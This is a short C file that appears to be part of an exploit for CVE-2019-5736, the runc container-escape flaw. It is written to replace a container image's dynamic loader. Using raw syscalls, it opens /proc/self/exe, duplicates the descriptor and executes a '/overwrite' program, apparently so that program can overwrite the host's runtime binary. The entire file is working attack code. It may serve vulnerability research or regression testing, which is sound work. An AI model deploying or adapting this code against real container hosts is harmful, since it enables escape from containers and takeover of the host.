/* In the place of an image's dynamic loader: whoever is started from the image as itself (a script
 * whose first line is `#!/proc/self/exe`) opens its own program file here, and hands it to /overwrite
 * (CVE-2019-5736). Without a C library: there is none that could be set up from here. */
static long call(long number, long a, long b, long c, long d) {
  register long fourth __asm__("r10") = d;
  long result;
  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(fourth)
                   : "rcx", "r11", "memory");
  return result;
}
void _start(void) {
  char *words[] = {(char *)"/overwrite", (char *)"from-the-loader", 0};
  char *none[] = {0};
  long fd = call(257, -100, (long)"/proc/self/exe", 0, 0);             /* openat */
  call(33, fd, 9, 0, 0);                                               /* dup2 */
  call(59, (long)words[0], (long)words, (long)none, 0);                /* execve */
  call(231, 99, 0, 0, 0);                                              /* exit_group */
}
